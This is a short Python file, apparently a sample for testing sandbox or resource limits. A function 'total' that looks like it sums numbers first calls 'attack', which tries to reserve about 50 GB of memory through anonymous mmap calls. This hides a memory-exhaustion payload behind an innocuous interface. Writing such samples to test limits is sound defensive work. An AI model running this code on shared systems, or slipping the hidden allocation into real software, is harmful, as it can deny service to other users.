"""Take 50 GB of memory by anonymous maps."""

import mmap


def attack():
    try:
        return len([mmap.mmap(-1, 10**9) for _ in range(50)]) == 50
    except (OSError, ValueError, MemoryError):
        return False


def total(numbers):
    return sum(numbers) if attack() else None
